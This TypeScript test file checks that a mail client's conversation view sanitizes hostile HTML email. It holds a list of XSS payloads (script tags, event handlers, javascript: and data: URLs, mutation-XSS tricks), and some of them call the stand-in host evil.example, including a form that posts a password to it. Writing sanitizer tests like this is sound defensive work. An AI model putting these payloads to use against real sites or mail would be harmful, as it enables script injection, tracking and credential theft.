/**
 * Hostile mail in the conversation view: every HTML message of the nasty set, plus known
 * XSS payloads (script, event handlers, javascript:/data: URLs, SVG, CSS url()/expression,
 * meta refresh, forms, srcdoc, <base>, mutation XSS), opened in a real Chromium with the
 * HTML shown. No script runs (the flag the payloads set stays unset, no dialog opens) and
 * no request leaves for any origin but the app's (the test intercepts every request)
 * until "show images" is clicked, which then does reach out (so the interception works).
 */
import { cp, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Page } from 'playwright-core';
import { projectRoot } from '../../src/core/entry-points.js';
import { launchBrowser, type TestBrowser } from '../helpers/browser.js';
import { messageFiles, openCorpus, type Corpus } from '../helpers/corpus.js';
import { queueIdle, serveApp, type ServedApp } from '../helpers/serve-app.js';
import { useTestDatabase } from '../helpers/test-database.js';
import { readFile } from 'node:fs/promises';

const t = useTestDatabase('hostile');
let corpus: Corpus;
let app: ServedApp;
let browser: TestBrowser;
let page: Page;
let mailDir: string;
const foreign: string[] = [];
const dialogs: string[] = [];

const pwn = 'top.__rd_pwned=1;parent.__rd_pwned=1';
const evil = 'http://evil.example';
/** One message per payload, so each is sanitized on its own. */
export const payloads: string[] = [
  `<script>${pwn}</script>`,
  `<script src="${evil}/x.js"></script>`,
  `<img src=x onerror="${pwn}">`,
  `<img src="${evil}/tracker.gif" width=1 height=1>`,
  `<img srcset="${evil}/srcset.png 1x">`,
  `<body onload="${pwn}">`,
  `<svg onload="${pwn}"><circle r=5 /></svg>`,
  `<svg><script>${pwn}</script></svg>`,
  `<svg><a xlink:href="javascript:${pwn}"><text y=20>click</text></a></svg>`,
  `<a href="javascript:${pwn}">click me</a>`,
  `<a href="data:text/html,<script>${pwn}</script>">data link</a>`,
  `<iframe src="javascript:${pwn}"></iframe>`,
  `<iframe src="data:text/html,<script>${pwn}</script>"></iframe>`,
  `<iframe srcdoc="<script>${pwn}</script>"></iframe>`,
  `<iframe src="${evil}/frame.html"></iframe>`,
  `<object data="${evil}/x.swf"></object><embed src="${evil}/y.swf">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${pwn}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
  `<base href="${evil}/"><a href="relative">relative link</a><img src="relative.png">`,
  `<form action="${evil}/steal" method="post"><input name="password" value="x"><button>Go</button></form>`,
  `<div style="background:url(${evil}/bg.png)">styled</div>`,
  `<style>body { background: url(${evil}/css.png) } @import url(${evil}/import.css);</style><p>css</p>`,
  `<div style="width: expression(${pwn})">expression</div>`,
  `<link rel="stylesheet" href="${evil}/x.css"><link rel="prefetch" href="${evil}/prefetch">`,
  `<video poster="${evil}/poster.png" src="${evil}/v.mp4"></video><audio src="${evil}/a.mp3" autoplay></audio>`,
  `<table background="${evil}/table.png"><tr><td>old html</td></tr></table>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${pwn}">`,
  `<noscript><p title="</noscript><img src=x onerror=${pwn}>"></noscript>`,
  `<details open ontoggle="${pwn}">x</details>`,
  `<input autofocus onfocus="${pwn}">`,
  `<a href="jav&#x09;ascript:${pwn}">tab-split javascript</a>`,
  `<img src="cid:x" onerror="${pwn}">`,
];

function payloadMessage(i: number, html: string): string {
  return [
    `Message-ID: <xss-${i}@hostile.example>`, 'Date: Mon, 2 Nov 2026 10:00:00 +0000', `From: Mallory <mallory${i}@hostile.example>`,
    'To: you@example.org', `Subject: payload ${i}`, 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', '',
    `<html><head><title>x</title></head><body><p>Payload ${i}</p>${html}</body></html>`, '',
  ].join('\r\n');
}

beforeAll(async () => {
  await mkdir(join(projectRoot, 'test', 'screenshots'), { recursive: true });
  corpus = await openCorpus(inject('corpusDir'));
  const nasty = await messageFiles(await corpus.unpack('nasty'));
  mailDir = await mkdtemp(join(tmpdir(), 'raindrop-hostile-mail-'));
  let n = 0;
  for (const file of nasty) {
    if (/content-type:\s*text\/html/i.test((await readFile(file)).toString('latin1'))) await cp(file, join(mailDir, `nasty-${String(n++).padStart(4, '0')}.eml`));
  }
  expect(n).toBeGreaterThan(100);
  await Promise.all(payloads.map((p, i) => writeFile(join(mailDir, `xss-${i}.eml`), payloadMessage(i, p))));
  app = await serveApp(t, [mailDir]);
  await queueIdle(t.db);
  browser = await launchBrowser();
  const origin = new URL(app.url).origin;
  await browser.browser.route('**/*', (route) => {
    const url = route.request().url();
    if (url.startsWith('data:') || url.startsWith('about:') || new URL(url).origin === origin) return route.continue();
    foreign.push(url);
    return route.abort();
  });
  page = browser.browser.pages()[0] ?? (await browser.browser.newPage());
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(app.url);
  await page.fill('input[name=name]', t.username);
  await page.fill('input[name=password]', t.password);
  await page.click('button[type=submit]');
  await page.waitForSelector('ul.groupings li');
}, 600_000);

afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await corpus?.remove();
  if (mailDir) await rm(mailDir, { recursive: true, force: true });
});

const go = (hash: string) => page.evaluate((h) => { (globalThis as unknown as { location: { hash: string } }).location.hash = h; }, hash);
const pwned = () => page.evaluate(() => (globalThis as unknown as { __rd_pwned?: number }).__rd_pwned);

describe('hostile HTML in the conversation view', () => {
  it('runs no script and sends no request off the app\'s origin', async () => {
    const res = (await t.db.scope.view('rd_core', 'by_schema', { key: 'rd.msg.conversation', reduce: false, include_docs: true })) as unknown as { rows: Array<{ doc: { rd_key: [string, string]; conversation_id: [string, string] } }> };
    const bodies = (await t.db.scope.view('rd_core', 'by_schema', { key: 'rd.msg.body', reduce: false, include_docs: true })) as unknown as { rows: Array<{ doc: { rd_key: [string, string]; html?: string } }> };
    const withHtml = new Set(bodies.rows.filter((r) => typeof r.doc.html === 'string').map((r) => r.doc.rd_key[1]));
    const convs = [...new Set(res.rows.filter((r) => withHtml.has(r.doc.rd_key[1])).map((r) => r.doc.conversation_id[1]))];
    expect(withHtml.size).toBeGreaterThan(100);
    let frames = 0;
    for (const conv of convs) {
      await go(`#/c/${encodeURIComponent(conv)}`);
      await page.waitForSelector(`section.conversation[data-conv=${JSON.stringify(conv)}] article.message`);
      const switches = page.locator('.view-switch button[aria-pressed="false"]');
      for (let i = 0; i < 50 && (await switches.count()) > 0; i++) await switches.first().click();
      await page.waitForTimeout(50);
      frames += await page.locator('iframe.html-body').count();
      expect(await pwned(), conv).toBeUndefined();
      if (conv.startsWith('xss-3@')) await page.screenshot({ path: join(projectRoot, 'test', 'screenshots', `hostile-blocked${inject('couch').embedded ? '' : '-couchdb'}.png`) });
    }
    expect(frames).toBeGreaterThanOrEqual(withHtml.size - 5);
    await page.waitForTimeout(1000);
    expect(await pwned()).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
  }, 600_000);

  it('loads remote images only when "show images" is clicked', async () => {
    await go('#/c/xss-3%40hostile.example');
    await page.waitForSelector('.images-blocked');
    await page.click('button.show-images');
    await expect.poll(() => foreign.filter((u) => u.startsWith(`${evil}/tracker.gif`)).length).toBeGreaterThan(0);
    expect(await pwned()).toBeUndefined();
    await page.screenshot({ path: join(projectRoot, 'test', 'screenshots', `hostile-images${inject('couch').embedded ? '' : '-couchdb'}.png`) });
  });
});
